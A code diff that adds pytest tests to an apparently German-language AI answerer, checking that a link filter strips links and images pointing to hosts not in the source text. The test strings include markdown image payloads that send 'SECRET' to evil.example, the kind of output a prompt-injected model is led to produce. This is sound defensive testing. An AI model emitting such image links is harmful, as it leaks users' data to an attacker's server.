@@ -12,6 +12,7 @@ import pytest
 from tests.core.agents.conftest import Bench
 from wattos.access import Principal
 from wattos.agents import Tool, ToolContext, ToolResult
+from wattos.agents.links import LinkGate
 from wattos.agents.prompts import prompt_for
 from wattos.database import fetchval, new_id, tenant_scope
 from wattos.knowledge import Hit
@@ -172,6 +173,30 @@ async def test_the_default_answerer_quotes_an_attack_without_obeying_it(
     assert "kurz, freundlich" not in answer.text
     async with tenant_scope(tenant):
         assert await fetchval("select count(*) from tool_call") == 0
+
+
+@pytest.mark.parametrize("size", [1, 5, 1000])
+def test_links_and_images_lead_nowhere_but_to_what_was_given(size: int) -> None:
+    said = (
+        "Ein Schein [1] ![Bild](https://evil.example/?d=SECRET) kostet [hier](https://evil.example)"
+        " 20 Euro, siehe https://evil.example/x?d=1. Antrag: [online](https://stadt.example/schein)"
+        " oder https://stadt.example/schein. [k](//evil.example) ![r](data:x) http!"
+    )
+    gate = LinkGate(["Den Antrag gibt es auf https://stadt.example/schein."])
+    pieces = [said[start : start + size] for start in range(0, len(said), size)]
+    assert "".join(map(gate.take, pieces)) + gate.rest() == (
+        "Ein Schein [1] Bild kostet hier 20 Euro, siehe evil.example. "
+        "Antrag: [online](https://stadt.example/schein) oder https://stadt.example/schein."
+        " k r http!"
+    )
+
+
+async def test_model_that_was_talked_into_an_image_shows_none(bench: Bench) -> None:
+    await publish(bench)
+    bench.model.queue("Der Schein [1] ![x](https://evil.example/?d=SECRET) kostet etwas.")
+    answer = await bench.ask("Was kostet das?")
+    assert "evil.example" not in answer.text
+    assert bench.shown == answer.text
 
 
 async def test_a_visitors_text_is_no_command(
